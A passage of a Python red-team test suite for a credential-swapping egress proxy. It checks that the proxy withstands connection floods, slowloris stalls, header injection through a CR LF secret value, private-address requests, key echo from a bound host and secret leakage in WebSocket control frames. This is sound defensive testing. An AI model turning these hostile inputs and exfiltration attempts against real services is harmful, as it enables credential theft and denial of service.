                s.sendall(b"GET http://api.openai.com/ HTTP/1.1\r\nHost: api.openai.com\r\n\r\n")
        answers = [recv_all(s, 5) for s in extra[:5]]
        assert all(a == b"" or a.startswith(b"HTTP/1.1 503") for a in answers)
        for s in extra:
            s.close()
    finally:
        for h in held:
            h.close()
    time.sleep(0.5)
    assert ask(tight, HOSTILE_NAME, get("/rt/after-flood")).status == 200


def test_rt_a_body_that_stops_is_closed_at_the_idle_timeout_and_never_completed(
    make_proxy: Callable[..., ProxyProcess], upstreams: dict[str, Seen]
) -> None:
    """Slowloris in the body: the head is complete, the body stalls. The proxy closes (its idle
    timeout, 1 s here; our read waits 15), and the upstream never gets a completed request."""
    from tests.conftest import MAIN_POLICY

    p = make_proxy(MAIN_POLICY, "--idle-timeout", "1", "--header-timeout", "1")
    before = len(upstreams["echo"].requests)
    s = tunnel(p.port, "echo.example.com:443", "echo.example.com", p.ca)
    s.sendall(b"POST /slow HTTP/1.1\r\nHost: echo.example.com\r\nContent-Length: 100\r\n\r\nabc")
    s.settimeout(15)
    closed = False
    try:
        while s.recv(4096):
            pass
        closed = True
    except (ConnectionResetError, ssl.SSLError):
        closed = True
    except TimeoutError:
        pass
    assert closed
    assert not [r for r in upstreams["echo"].requests[before:] if r["path"] == "/slow"]


REPORT_POLICY = POLICY.replace(
    "metadata: {name: redteam}\nspec:\n", "metadata: {name: redteam-report}\nspec:\n  mode: report\n"
)


@pytest.fixture(scope="module")
def report(
    make_proxy: Callable[..., ProxyProcess], hostile: HostileServer, hostile_ca: tuple[trustme.CA, Path]
) -> ProxyProcess:
    return make_proxy(REPORT_POLICY, "--upstream-ca", str(hostile_ca[1]), env=env())


def test_rt_report_mode_never_swaps_toward_an_unbound_host(report: ProxyProcess, hostile: HostileServer) -> None:
    before = len(hostile.requests)
    reply = ask(report, HOSTILE_NAME, get("/rt/report", auth=bearer(API)))
    assert reply.status == 200
    sent = hostile.requests[before].header("authorization")
    assert sent == bearer(API) and API.real not in sent
    assert report.audit()[-1]["decision"] == "reported" and report.audit()[-1]["reason"] == "secret_not_bound"


@pytest.mark.parametrize("attack", ["authority", "real-value", "private-address"])
def test_rt_report_mode_still_enforces_platform_invariants(
    report: ProxyProcess, hostile: HostileServer, attack: str
) -> None:
    if attack == "authority":
        reply = ask(report, HOSTILE_NAME, get("/rt/r", host="api.openai.com", auth=bearer(API)))
        assert reply.reason == "authority_mismatch"
    elif attack == "real-value":
        reply = ask(report, HOSTILE_NAME, get("/rt/r", f"X-K: {API.real}"))
        assert reply.reason == "secret_value_outbound"
    else:
        s = tunnel(report.port, "internal.example.com:443", "internal.example.com", report.ca)
        reply = raw_request(s, get("/", host="internal.example.com"))
        assert reply.reason in ("private_address", "host_not_allowed") and reply.status == 403


def test_rt_an_oversized_or_control_character_secret_value_is_never_used(
    make_proxy: Callable[..., ProxyProcess], hostile: HostileServer, hostile_ca: tuple[trustme.CA, Path]
) -> None:
    """A value that could not be found again (too long) or would split a header (CR LF) is
    secret_invalid: the placeholder is never forwarded in its place either."""
    bad = {**env(), HOST.env: "rtREALbig" + "x" * 9000, API.env: "rtREAL\r\nX-Injected: 1"}
    p = make_proxy(POLICY, "--upstream-ca", str(hostile_ca[1]), env=bad)
    before = len(hostile.requests)
    assert ask(p, HOSTILE_NAME, get("/rt/big", auth=bearer())).reason == "secret_invalid"
    assert ask(p, "api.openai.com", get("/v1/x", host="api.openai.com", auth=bearer(API))).reason == "secret_invalid"
    assert len(hostile.requests) == before


def test_rt_nothing_this_module_did_leaked_into_logs_or_metrics(
    rt: ProxyProcess, tight: ProxyProcess, report: ProxyProcess
) -> None:
    """The NO-LEAK oracle over this module's proxies (the session's oracle knows only its own values)."""
    for p in (rt, tight, report):
        texts = {**p.outputs(), "metrics": p.metrics()}
        for sec in ALL:
            assert {k: leaked(v, sec) for k, v in texts.items()} == {k: [] for k in texts}, (p.workdir, sec.name)


def test_rt_key_echoed_to_a_later_unswapped_request_never_reaches_the_agent(
    rt: ProxyProcess, hostile: HostileServer
) -> None:
    """Log in with the key (swapped), then read it back with the session cookie alone: many APIs
    can show the caller's own credential. Only responses to swapped requests are scrubbed, but the
    key is just as real in the second answer, from the same bound host."""
    sessions: dict[str, str] = {}

    @hostile.on("/rt/login")
    async def _(req: Request, w: Wire) -> None:
        sid = secrets.token_hex(8)
        sessions[sid] = req.token
        await w.send(_respond(f"Set-Cookie: sid={sid}\r\n", b"welcome"))

    @hostile.on("/rt/account/key")
    async def _(req: Request, w: Wire) -> None:
        sid = req.header("cookie").removeprefix("sid=")
        await w.send(
            _respond("Content-Type: application/json\r\n", json.dumps({"api_key": sessions.get(sid, "")}).encode())
        )

    login = ask(rt, HOSTILE_NAME, get("/rt/login", auth=bearer()))
    sid = login.headers["set-cookie"].removeprefix("sid=")
    assert sessions[sid] == HOST.real  # the upstream got the real key, as it should
    account = ask(rt, HOSTILE_NAME, get("/rt/account/key", f"Cookie: sid={sid}"))
    assert account.status == 200
    assert not leaked(account.body), "the bound host's later answer handed the real key to the agent"


@pytest.mark.parametrize("frame", ["close-reason", "ping"])
def test_rt_websocket_control_frames_from_the_agent_carry_no_real_value(
    rt: ProxyProcess, hostile: HostileServer, frame: str
) -> None:
    """Agent -> upstream control frames: a ping payload, a close reason (up to 123 bytes of text)."""
    path = f"/rt/ws-ctl-{frame}"
    received: list[bytes] = []
    done = threading.Event()

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        await w.send(ws_handshake(req))
        frames = await _upstream_frames(w, 1)
        received.extend(p for _, _, p in frames)
        done.set()
        w.keep = False

    s, _ = ws_open(rt, path)
    mask = os.urandom(4)
    value = API.real.encode()
    s.sendall(ws_frame(0x9, value, mask=mask) if frame == "ping" else ws_frame(0x8, b"\x03\xe8" + value, mask=mask))
    recv_all(s, 3)
    done.wait(5)
    assert value not in b"".join(received), f"a real value reached the upstream in a {frame} frame"
